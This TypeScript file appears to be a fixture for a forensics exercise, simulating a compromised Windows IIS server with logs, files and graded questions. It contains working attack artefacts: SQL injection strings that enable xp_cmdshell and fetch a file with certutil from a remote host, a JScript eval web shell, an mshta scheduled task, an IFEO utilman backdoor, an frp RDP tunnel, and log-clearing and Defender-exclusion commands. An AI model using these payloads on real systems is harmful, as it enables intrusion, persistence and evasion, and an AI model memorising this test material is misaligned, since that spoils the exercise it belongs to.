/** Windows and IIS: a search form open to SQL, a script of one line, a hidden account, a task and a tunnel. */
import {
  account,
  attacker,
  entered,
  firstSeen,
  type Host,
  inTimeline,
  later,
  outbound,
  shell,
  stays,
  tampered,
} from './host.ts';

const THIEF = '203.0.113.33';
const iis = (
  iso: string,
  client: string,
  method: string,
  path: string,
  query: string,
  status: number,
  taken = 31,
): string =>
  `${iso.slice(0, 10)} ${iso.slice(11, 19)} 10.0.4.10 ${method} ${path} ${query} 443 - ${client} Mozilla/5.0+(Windows+NT+10.0) - ${status} 0 0 ${taken}\n`;

const requests =
  Array.from({ length: 90 }, (_, i) =>
    iis(
      later('2026-11-14T10:00:00Z', i * 40),
      `198.51.100.${10 + (i % 40)}`,
      'GET',
      ['/', '/orders.aspx', '/search.aspx'][i % 3]!,
      i % 3 === 2 ? `q=shoe${i}` : '-',
      200,
    ),
  ).join('') +
  iis('2026-11-14T11:02:10Z', THIEF, 'GET', '/search.aspx', "q=x'+AND+1=CONVERT(int,@@version)--", 500) +
  iis(
    '2026-11-14T11:02:31Z',
    THIEF,
    'GET',
    '/search.aspx',
    "q=x';EXEC+sp_configure+'xp_cmdshell',1;RECONFIGURE--",
    200,
  ) +
  iis(
    '2026-11-14T11:03:02Z',
    THIEF,
    'GET',
    '/search.aspx',
    "q=x';EXEC+master..xp_cmdshell+'certutil+-urlcache+-f+http://198.18.55.8/a+C:\\inetpub\\wwwroot\\aspnet_client\\e.aspx'--",
    200,
    4210,
  ) +
  Array.from({ length: 8 }, (_, i) =>
    iis(later('2026-11-14T11:04:15Z', i * 33), THIEF, 'POST', '/aspnet_client/e.aspx', '-', 200, 140),
  ).join('');

const row = (iso: string, id: number, message: string): string =>
  `"${iso.slice(0, 19)}","${id}","Information","Microsoft-Windows-Security-Auditing","WEB01","${message.replaceAll('"', '""')}"\r\n`;

export const windowsIis: Host = {
  name: 'Windows with IIS',
  files: {
    'inetpub/logs/LogFiles/W3SVC1/u_ex261114.log': `#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2026-11-14 10:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n${requests}`,
    'inetpub/wwwroot/aspnet_client/e.aspx':
      '<%@ Page Language="Jscript" validateRequest="false" %><%var b=System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Form["kx91"]));eval(b,"uns"+"afe");%>\n',
    'inetpub/wwwroot/search.aspx':
      '<%@ Page Language="C#" %>\n<script runat="server">void Page_Load(object s, EventArgs e) { Results.DataSource = Catalog.Find(Request.QueryString["q"]); Results.DataBind(); }</script>\n',
    'security-events.csv':
      '"TimeCreated","Id","LevelDisplayName","ProviderName","MachineName","Message"\r\n' +
      row(
        '2026-11-14T11:09:30',
        4720,
        'A user account was created.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-5-20\r\n\tAccount Name:\t\tWEB01$\r\n\r\nNew Account:\r\n\tSecurity ID:\t\tS-1-5-21-5-6-7-1014\r\n\tAccount Name:\t\tiusr_pool$\r\n\tAccount Domain:\t\tWEB01\r\n',
      ) +
      row(
        '2026-11-14T11:09:41',
        4732,
        'A member was added to a security-enabled local group.\r\n\r\nMember:\r\n\tSecurity ID:\t\tS-1-5-21-5-6-7-1014\r\n\tAccount Name:\t\t-\r\n\r\nGroup:\r\n\tSecurity ID:\t\tS-1-5-32-544\r\n\tGroup Name:\t\tAdministrators\r\n\tGroup Domain:\t\tBuiltin\r\n',
      ) +
      row(
        '2026-11-14T11:30:02',
        4624,
        `An account was successfully logged on.\r\n\r\nLogon Information:\r\n\tLogon Type:\t\t10\r\n\r\nNew Logon:\r\n\tSecurity ID:\t\tS-1-5-21-5-6-7-1014\r\n\tAccount Name:\t\tiusr_pool$\r\n\tAccount Domain:\t\tWEB01\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\tKALI\r\n\tSource Network Address:\t${THIEF}\r\n\tSource Port:\t\t50112\r\n`,
      ),
    'Windows/System32/Tasks/Microsoft/Windows/Defrag/DefragSvc':
      '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Date>2026-11-14T11:15:20</Date></RegistrationInfo><Triggers><TimeTrigger><Repetition><Interval>PT10M</Interval></Repetition></TimeTrigger></Triggers><Actions><Exec><Command>C:\\Windows\\System32\\mshta.exe</Command><Arguments>http://198.18.55.8/d.hta</Arguments></Exec></Actions></Task>\n',
    'Windows/System32/Tasks/GoogleUpdateTaskMachineCore':
      '<?xml version="1.0"?>\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe</Command><Arguments>/c</Arguments></Exec></Actions></Task>\n',
    'ifeo.reg':
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe]\r\n"Debugger"="C:\\\\Windows\\\\System32\\\\cmd.exe"\r\n',
    'run.reg':
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"SecurityHealth"="%windir%\\\\system32\\\\SecurityHealthSystray.exe"\r\n"IISTray"="C:\\\\ProgramData\\\\iistray\\\\iistray.exe -c C:\\\\ProgramData\\\\iistray\\\\frpc.toml"\r\n',
    'ProgramData/iistray/frpc.toml':
      'serverAddr = "198.18.55.9"\nserverPort = 7000\n\n[[proxies]]\nname = "rdp"\ntype = "tcp"\nlocalPort = 3389\nremotePort = 6001\n',
    'Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt':
      'Get-Service\nInvoke-WebRequest -Uri http://198.18.55.8/m.zip -OutFile C:\\ProgramData\\m.zip\nwevtutil cl Security\nAdd-MpPreference -ExclusionPath C:\\ProgramData\n',
    'hashes/baseline-sha256.txt': `${'a'.repeat(8)}${'1'.repeat(56)}  C:\\Windows\\System32\\sethc.exe\n${'b'.repeat(8)}${'2'.repeat(56)}  C:\\Windows\\System32\\osk.exe\n`,
    'hashes/current-sha256.txt': `${'c'.repeat(8)}${'3'.repeat(56)}  C:\\Windows\\System32\\sethc.exe\n${'b'.repeat(8)}${'2'.repeat(56)}  C:\\Windows\\System32\\osk.exe\n`,
  },
  questions: [
    attacker(THIEF),
    firstSeen(THIEF, '2026-11-14T11:02:10Z'),
    entered(/SQL|xp_cmdshell|web shell/),
    ...shell('aspnet_client/e.aspx', { key: 'kx91', first: '2026-11-14T11:04:15Z' }),
    account('iusr_pool$', /hide/),
    stays('DefragSvc', '198.18.55.8'),
    stays('ifeo.reg', 'cmd.exe'),
    stays('run.reg', 'iistray'),
    stays('ConsoleHost_history.txt', 'wevtutil cl'),
    tampered('sethc.exe'),
    outbound('198.18.55.8'),
    outbound('198.18.55.9'),
    inTimeline(/iusr_pool/, '2026-11-14T11:09:30Z'),
  ],
};
